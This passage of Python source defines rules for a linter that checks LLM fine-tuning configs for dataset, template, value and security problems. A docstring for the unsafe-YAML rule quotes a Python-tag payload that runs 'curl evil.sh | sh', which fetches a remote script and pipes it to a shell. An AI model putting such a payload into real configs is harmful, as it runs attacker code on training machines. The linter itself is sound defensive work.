    severity = Severity.WARNING

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None or plan.stage == "other":
            return
        has_eval = any(s.split in ("eval", "test") for s in plan.datasets) or (plan.val_set_size or 0) > 0
        d = doc.dialect
        if d == "trl":
            strategy = doc.get("/eval_strategy")
            if strategy in (None, "no"):
                yield self.at(doc, _first_existing(doc, "/eval_strategy", "/dataset_name", "/datasets"),
                              "Nothing is evaluated: `eval_strategy` is not set (TRL defaults to \"no\"). Set "
                              "`eval_strategy: steps` with a test split (`dataset_test_split` or "
                              "`test_split_size`) to see a baseline and overfitting.")
            return
        if has_eval:
            return
        hint = {"axolotl": ("/val_set_size", "/datasets", "set `val_set_size: 0.05` or add `test_datasets`"),
                "llamafactory": ("/val_size", "/dataset", "set `val_size: 0.05` (with `eval_strategy: steps`) or "
                                 "`eval_dataset`"),
                "autotrain": ("/data/valid_split", "/data", "set `data.valid_split`")}.get(d or "")
        if hint is None:
            return
        yield self.at(doc, _first_existing(doc, hint[0], hint[1]),
                      f"No eval set: {hint[2]}; without held-out data you cannot establish a baseline or see "
                      "overfitting.")


class DatasetNotFound(ConfigRule):
    """Dataset referenced by the config but missing locally (and not a hub id).

    ## What it does
    Resolves every dataset the config names: local files and folders (next to the config, then
    the working directory), LLaMA-Factory dataset names through `dataset_dir/dataset_info.json`,
    AutoTrain `data.path/<split>.csv|jsonl`. A reference that is not on disk and does not look
    like a Hugging Face hub id (`owner/name`) is reported with the places that were tried.

    ## Why it matters
    The trainer fails only after loading the model (minutes on a rented GPU), or, for a hub-like
    name, tries to download something else.

    ## Example
    ```yaml
    datasets:
      - path: data/trian.jsonl
        type: alpaca
    ```

    ## Use instead
    ```yaml
    datasets:
      - path: data/train.jsonl
        type: alpaca
    ```

    ## How to fix
    Fix the path (relative to where you launch training), add the entry to dataset_info.json,
    or use the hub id.
    """

    code = "FTG011"
    name = "dataset-not-found"
    severity = Severity.ERROR

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None or doc.normalised is None:
            return
        seen: set[tuple[str, str]] = set()
        for pointer, kind, message in doc.normalised.problems:
            if kind not in ("missing", "info") or (pointer, message) in seen:
                continue
            seen.add((pointer, message))
            yield self.at(doc, pointer, message[0].upper() + message[1:] + ".")
        if not plan.datasets and isinstance(doc.data, dict):
            keys = {"axolotl": ("datasets", "pretraining_dataset"), "llamafactory": ("dataset", "tokenized_path"),
                    "trl": ("dataset_name", "datasets"), "autotrain": ("data",)}.get(doc.dialect or "", ())
            if keys and not any(doc.data.get(k) for k in keys) and plan.stage != "other":
                yield self.at(doc, "", f"The config names no dataset (expected `{keys[0]}`); the trainer has "
                              "nothing to train on.")


class DatasetTypeMismatch(ConfigRule):
    """Declared dataset type does not match the records.

    ## What it does
    Reads the first records of every local dataset and checks them against what the config
    declares: the Axolotl `type` (alpaca, chat_template with `field_messages` and its
    role/content mapping, completion, …), the LLaMA-Factory `formatting` and `columns`/`tags`
    in dataset_info.json, the AutoTrain `column_mapping`, and for TRL the shapes SFTTrainer
    reads (messages, prompt/completion, text).

    ## Why it matters
    A mismatch is a KeyError deep inside a multiprocess `datasets.map` after the model has
    loaded ("KeyError: 'text'", "Cannot find valid samples"), or worse, an empty field that
    trains on nothing.

    ## Example
    ```yaml
    datasets:
      - path: data/chat.jsonl   # {"messages": [{"role": "user", ...}]}
        type: alpaca
    ```

    ## Use instead
    ```yaml
    datasets:
      - path: data/chat.jsonl
        type: chat_template
    ```

    ## How to fix
    Declare the type the records have (or convert the records), and map custom column names
    (`field_messages`, `message_property_mappings`, `columns`, `column_mapping`).
    """

    code = "FTG012"
    name = "dataset-type-mismatch"
    severity = Severity.ERROR

    TRL_ACCEPTS = {"sft": {"openai", "prompt_completion", "text"}, "dpo": {"preference"}, "orpo": {"preference"},
                   "kto": {"kto"}, "reward": {"preference"}}

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None:
            return
        done: set[tuple] = set()
        for spec in plan.datasets:
            # the same file may be declared twice with different mappings: check each declaration
            key = (spec.local_path, spec.format, tuple(sorted(spec.columns.items())))
            if spec.source != "local" or not spec.local_path or key in done:
                continue
            records = doc.samples.get(spec.local_path) or []
            if not records:
                continue
            done.add(key)
            problem = self._problem(doc, plan, spec, records)
            if problem:
                message, column = problem
                pointer = self._pointer(doc, spec)
                if doc.dialect == "autotrain" and column:
                    # AutoTrain: point at the column_mapping entry that names the missing column
                    for key, value in (doc.get("/data/column_mapping") or {}).items():
                        if value == column:
                            pointer = f"/data/column_mapping/{key}"
                            break
                yield self.at(doc, pointer, f"{spec.path}: {message}")

    @staticmethod
    def _pointer(doc: "ConfigDocument", spec: "DatasetSpec") -> str:
        kp = spec.key_path or ""
        if doc.dialect == "axolotl":
            parts = kp.split("/")
            while len(parts) > 1 and not (len(parts) >= 3 and parts[-1].isdigit() and parts[-2] in
                                          ("datasets", "test_datasets")):
                parts.pop()
            entry = "/".join(parts)
            if doc.has(entry + "/type"):
                return entry + "/type"
        return kp

    def _problem(self, doc: "ConfigDocument", plan: "TrainingPlan", spec: "DatasetSpec",
                 records: list[dict]) -> tuple[str, str | None] | None:
        """(message, the missing column when that is the problem) or None."""
        out = self._describe(doc, plan, spec, records)
        if out is None:
            return None
        return out if isinstance(out, tuple) else (out, None)

    def _describe(self, doc: "ConfigDocument", plan: "TrainingPlan", spec: "DatasetSpec",
                  records: list[dict]) -> str | tuple[str, str | None] | None:
        from ..configs.datasets import first_keys, message_keys

        keys = first_keys(records)
        detected = spec.detected_format
        cols = spec.columns
        shown = ", ".join(sorted(keys)[:8]) or "none"
        declared = spec.declared_type or "the default"
        if doc.dialect == "trl":
            accepts = self.TRL_ACCEPTS.get(plan.stage, self.TRL_ACCEPTS["sft"])
            field = doc.get("/dataset_text_field")
            if isinstance(field, str) and field != "text":
                return None if field in keys else f"`dataset_text_field: {field}` is not a column (record keys: {shown})."
            if detected and detected not in accepts:
                fix = {"alpaca": "convert instruction/output to messages or prompt/completion",
                       "sharegpt": "convert from/value turns to role/content messages"}.get(detected, "convert the records")
                return (f"records are {detected} ({shown}) but TRL's {plan.stage.upper()} trainer reads "
                        f"{' or '.join(sorted(accepts))} records; {fix}.")
            return None
        if "messages" in cols:
            mf = cols["messages"]
            if mf not in keys:
                return (f"declared type `{declared}` reads messages from `{mf}`, but the records have no `{mf}` "
                        f"(record keys: {shown}{'; they look like ' + detected if detected else ''}).")
            mkeys = message_keys(records, mf)
            missing = [k for k in (cols.get("role"), cols.get("content")) if k and k not in mkeys]
            if mkeys and missing:
                return (f"messages in `{mf}` have keys {', '.join(sorted(mkeys))} but the config maps "
                        f"role/content to `{cols.get('role')}`/`{cols.get('content')}`; set the role and content "
                        "mapping (e.g. `message_property_mappings`, or `tags` in dataset_info.json).")
            return None
        required = [cols[k] for k in ("prompt", "response", "text", "chosen", "rejected") if k in cols]
        missing = [c for c in required if c not in keys]
        if missing:
            look = f"; they look like {detected} records" if detected else ""
            return (f"declared type `{declared}` needs column{'s' if len(missing) > 1 else ''} "
                    f"{', '.join('`' + m + '`' for m in missing)}, but the records have {shown}{look}.", missing[0])
        if spec.format and detected and spec.format != detected and {spec.format, detected} != {"openai", "sharegpt"} \
                and not cols:
            return f"declared type `{declared}` expects {spec.format} records, but the records are {detected}."
        return None


class NoChatTemplate(ConfigRule):
    """Chat data with a base model that has no chat template, and the config sets none.

    ## What it does
    When the datasets are conversations (or the trainer renders everything through a template,
    as LLaMA-Factory does), checks that either the config names a template (Axolotl
    `chat_template`, LLaMA-Factory `template`, TRL `chat_template_path`, AutoTrain
    `data.chat_template`) or the base model ships one (its tokenizer_config.json or
    chat_template.jinja, or ftlint's catalog for well-known base models).

    ## Why it matters
    TRL raises "Cannot use chat template functions because tokenizer.chat_template is not set";
    LLaMA-Factory silently falls back to its `empty` template and trains on unformatted text,
    so the model never learns where turns start and stop.

    ## Example
    ```yaml
    base_model: meta-llama/Llama-2-7b-hf
    datasets:
      - path: data/chat.jsonl
        type: chat_template
    ```

    ## Use instead
    ```yaml
    base_model: meta-llama/Llama-2-7b-hf
    chat_template: llama2
    datasets:
      - path: data/chat.jsonl
        type: chat_template
    ```

    ## How to fix
    Name a template in the config, or start from the model's instruct/chat variant.
    """

    code = "FTG013"
    name = "no-chat-template"
    severity = Severity.WARNING

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None or not plan.base_model or plan.stage in ("pretrain", "other"):
            return
        # "tokenizer_default" (Axolotl) and "tokenizer" (AutoTrain) mean: the model's own template
        if plan.chat_template and str(plan.chat_template) not in ("tokenizer_default", "tokenizer"):
            return
        entries = doc.get("/datasets")  # any YAML value: only a list holds dataset entries
        if doc.dialect == "axolotl" and isinstance(entries, list) and any(
                isinstance(e, dict) and (e.get("chat_template") or e.get("chat_template_jinja")) for e in entries):
            return
        chat = doc.dialect == "llamafactory" or any(self._is_chat(s) for s in plan.datasets)
        if not chat:
            return
        arch = model_arch(plan, ctx, doc)
        if arch is None or arch.has_chat_template is not False:
            return
        key = {"axolotl": "`chat_template: <name>`", "llamafactory": "`template: <name>`",
               "trl": "`chat_template_path`", "autotrain": "`data.chat_template`"}.get(doc.dialect or "", "a template")
        effect = ("LLaMA-Factory falls back to its `empty` template" if doc.dialect == "llamafactory"
                  else "the trainer cannot render the conversations")
        yield self.at(doc, _src(plan, doc, "base_model", "/base_model", "/model_name_or_path"),
                      f"{plan.base_model} is a base model without a chat template and the config sets none; "
                      f"{effect}. Set {key} or use the instruct variant.")

    @staticmethod
    def _is_chat(spec: "DatasetSpec") -> bool:
        if spec.format in ("openai", "sharegpt") or (spec.declared_type or "").startswith(("chat_template", "sharegpt")):
            return True
        return spec.detected_format in ("openai", "sharegpt")


class TrustRemoteCode(ConfigRule):
    """`trust_remote_code` is enabled: the model repository's Python code will run.

    ## What it does
    Reports `trust_remote_code: true` (and AutoTrain, which enables it unless the environment
    sets `ALLOW_REMOTE_CODE=false`).

    ## Why it matters
    The trainer imports and executes Python files from the model's hub repository (and from
    every later revision of it) with your credentials and data on the machine. Most current
    architectures are built into transformers and need no remote code.

    ## Example
    ```yaml
    base_model: Qwen/Qwen2.5-7B
    trust_remote_code: true
    ```

    ## Use instead
    ```yaml
    base_model: Qwen/Qwen2.5-7B
    ```

    ## How to fix
    Remove the flag; if the model truly needs custom code, pin a `revision` you have reviewed.
    """

    code = "FTG014"
    name = "trust-remote-code"
    severity = Severity.WARNING
    tags = ("config", "security")
    security_severity = 6.5

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None or not plan.trust_remote_code:
            return
        if "trust_remote_code" in plan.assumed:
            yield self.at(doc, "/base_model", "AutoTrain loads models with trust_remote_code unless "
                          "ALLOW_REMOTE_CODE=false is set: Python code from the model repository will run.",
                          severity=Severity.NOTE)
            return
        yield self.at(doc, _src(plan, doc, "trust_remote_code", "/trust_remote_code"),
                      f"`trust_remote_code` is enabled: Python code from {plan.base_model or 'the model repository'} "
                      "will run during training. Remove it unless the architecture needs it, and pin a reviewed "
                      "revision if it does.")


class UnmodelledFeature(ConfigRule):
    """The config uses features ftlint does not model.

    ## What it does
    Lists the settings whose effect ftlint's checks and estimates do not account for (GaLore,
    ReLoRA, multimodal processors, pre-quantised GPTQ/AWQ checkpoints, plugins, tensor or
    context parallelism, …), at the first such key.

    ## Why it matters
    The other checks still run, but their numbers (steps, memory, tokens) may not describe this
    run; you should know which conclusions to trust.

    ## Example
    ```yaml
    use_galore: true
    galore_target: all
    ```

    ## Use instead
    Nothing to change: this is information.

    ## How to fix
    No fix needed; ignore FTG015 if the note is not useful to you.
    """

    code = "FTG015"
    name = "unmodelled-feature"
    severity = Severity.NOTE

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None or doc.normalised is None or not doc.normalised.unmodelled:
            return
        items: list[tuple[str, str]] = []
        seen: set[str] = set()
        for pointer, feature in doc.normalised.unmodelled:
            if feature not in seen:
                seen.add(feature)
                items.append((pointer, feature))
        first = items[0][0]
        related = [Related(doc.locate(p), f"{f} (`{p.lstrip('/')}`)") for p, f in items[1:]]
        yield self.at(doc, first, "ftlint does not model " + "; ".join(f for _, f in items) +
                      ". Checks and estimates that depend on them may not describe this run.", related=related)


REQUIRED = {
    "axolotl": (("/base_model", "the base model"), ("/learning_rate", "the learning rate")),
    "llamafactory": (("/model_name_or_path", "the base model"),),
    "trl": (("/model_name_or_path", "the base model"),),
    "autotrain": (("/base_model", "the base model"), ("/project_name", "the output project"),
                  ("/backend", "the backend (e.g. local)"), ("/log", "the logger (e.g. tensorboard or none)"),
                  ("/data/path", "the dataset"), ("/data/train_split", "the train split"),
                  ("/data/valid_split", "the validation split (null for none)"),
                  ("/data/chat_template", "the chat template (null for none)"),
                  ("/data/column_mapping", "the column mapping")),
}


class InvalidConfigValue(ConfigRule):
    """A config value has the wrong type, or a required key is missing.

    ## What it does
    Reports values the trainer cannot parse (a learning rate that is not a number, a batch size
    that is not a whole number, a dataset entry without `path`, ...) and keys the trainer
    requires (the base model; Axolotl's `learning_rate`; AutoTrain's `backend`, `log`,
    `data.train_split`, `data.valid_split`, `data.chat_template` and `data.column_mapping`, which
    its parser reads unconditionally).

    ## Why it matters
    These fail at start-up with a pydantic or KeyError traceback, or a string that YAML did not
    read as a number is compared with numbers later in the run.

    ## Example
    ```yaml
    micro_batch_size: two
    warmup_steps: 0.1
    ```

    ## Use instead
    ```yaml
    micro_batch_size: 2
    warmup_ratio: 0.1
    ```

    ## How to fix
    Write the value with the type the message names, or add the missing key.
    """

    code = "FTG016"
    name = "invalid-config-value"
    severity = Severity.ERROR

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None or doc.normalised is None:
            return
        for pointer, message in doc.normalised.invalid:
            if pointer.endswith("/warmup_steps") and "whole number" in message:
                message += "; for a share of the run use `warmup_ratio`"
            yield self.at(doc, pointer, message[0].upper() + message[1:] + ".")
        if plan.stage == "other" and doc.dialect == "autotrain":
            return
        for pointer, what in REQUIRED.get(doc.dialect or "", ()):
            if doc.get(pointer, default=_ABSENT) is _ABSENT:
                parent = pointer.rsplit("/", 1)[0]
                yield self.at(doc, parent, f"Required key `{pointer.lstrip('/').replace('/', '.')}` ({what}) "
                              "is missing; the trainer stops at start-up.")


_ABSENT = object()


class DuplicateConfigKey(ConfigRule):
    """The same key appears twice in one mapping; YAML keeps only the last value.

    ## What it does
    Reports every repeated key in a mapping of the config, at the later copy, naming the line
    of the earlier one.

    ## Why it matters
    YAML loaders silently keep the last value: editing the first `learning_rate` in a long
    config changes nothing.

    ## Example
    ```yaml
    learning_rate: 2.0e-4
    lora_r: 16
    learning_rate: 2.0e-5
    ```

    ## Use instead
    ```yaml
    learning_rate: 2.0e-4
    lora_r: 16
    ```

    ## How to fix
    Delete one of the copies.
    """

    code = "FTG017"
    name = "duplicate-config-key"
    severity = Severity.WARNING

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if doc.yaml is None:
            return
        from ..configs.yamlsafe import to_pointer

        for path, spans in doc.yaml.duplicates.items():
            name = ".".join(str(p) for p in path)
            for first, later in zip(spans, spans[1:]):
                loc = Location(doc.display, later.line, later.column, later.end_line, later.end_column,
                               to_pointer(path))
                yield self.finding_at(loc, f"`{name}` is set again here (first on line {first.line}); YAML keeps "
                                      "only the last value.", key=f"{doc.display}|dup|{name}|{later.line}",
                                      related=[Related(Location(doc.display, first.line, first.column,
                                                                first.end_line, first.end_column), "first copy")])


class InvalidConfigYaml(Rule):
    """The training config is not usable YAML (syntax error, Python tag, alias bomb, binary).

    ## What it does
    Reports, at the position of the problem, a YAML syntax error, several documents in one
    file, a tag that would build Python objects (`!!python/object/apply:...`), an alias bomb
    ("billion laughs") or a recursive alias, and files that are not UTF-8 text.

    ## Why it matters
    ftlint reads configs as data with `yaml.safe_load` semantics and never executes anything;
    trainers that load YAML less carefully could run code from such a file.

    ## Example
    ```yaml
    base_model: !!python/object/apply:os.system ["curl evil.sh | sh"]
    ```

    ## Use instead
    ```yaml
    base_model: meta-llama/Llama-3.1-8B
    ```

    ## How to fix
    Fix the YAML at the reported position; remove tags and anchors that expand hugely.
    """

    code = "FTG020"
    name = "invalid-config-yaml"
    severity = Severity.ERROR
    scope = "reader"
    tags = ("config", "parse")


class NotATrainingConfig(Rule):
    """The YAML file is not a training config ftlint recognises.

    ## What it does
    Reports a YAML file given to `ftlint check` that is not a mapping of settings (a warning: a
    list, a scalar or an empty document is no config at all), or whose keys match none of
    Axolotl, LLaMA-Factory, TRL and AutoTrain (a note). It is not checked further. With
    `--dialect`, a non-mapping document is an error.

    ## Why it matters
    You asked for a file to be checked, and nothing was: this says so instead of passing it
    silently.

    ## Example
    ```yaml
    name: CI
    on: [push]
    ```

    ## Use instead
    A training config, e.g. `base_model: ...` with `datasets:` (Axolotl), or
    `model_name_or_path: ...` with `stage:` (LLaMA-Factory).

    ## How to fix
    Pass only training configs (or force the dialect with `--dialect`).
    """

    code = "FTG021"
    name = "not-a-training-config"
    severity = Severity.NOTE
    scope = "reader"
    tags = ("config",)


class DatasetOutsideProject(ConfigRule):
    """The config points at a local dataset outside both its own folder and the working directory.

    ## What it does
    Notes every local dataset whose path in the config is absolute or climbs out with `..`, and
    that lies neither under the config's folder nor under the working directory (e.g.
    `/data/shared/train.jsonl`), so what was read is always visible in the output, even when
    that file has no findings. Names a trainer resolves by its own rules (LLaMA-Factory's
    `dataset_dir` + `dataset_info.json`) are not reported.

    ## Why it matters
    A linter must not read files the user did not ask about without saying so; and a config that
    reaches outside its repository usually breaks on another machine or in CI.

    ## Example
    ```yaml
    datasets:
      - path: /home/alice/scratch/train.jsonl
        type: chat_template
    ```

    ## Use instead
    ```yaml
    datasets:
      - path: data/train.jsonl
        type: chat_template
    ```

    ## How to fix
    Keep datasets in the repository (or a path relative to it), or accept the note when the
    shared location is intended.
    """

    code = "FTG022"
    name = "dataset-outside-project"
    severity = Severity.NOTE
    tags = ("config", "datasets", "security")

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None:
            return
        roots = [os.path.realpath(os.getcwd()), os.path.realpath(os.path.dirname(os.path.abspath(doc.path)))]
        for spec in plan.datasets:
            # Only paths the config itself sends elsewhere (absolute, or climbing out with `..`);
            # names a trainer resolves by its own rules (LLaMA-Factory's dataset_dir) are not.
            written = spec.path or ""
            if not spec.local_path or not (os.path.isabs(written) or ".." in written.replace("\\", "/").split("/")):
                continue
            real = os.path.realpath(spec.local_path)
            if any(real == root or real.startswith(root + os.sep) for root in roots):
                continue
            yield self.at(doc, spec.key_path or "/datasets",
                          f"Dataset {real} lies outside this config's folder and the working directory; "
                          "ftlint read it because the config points at it.")
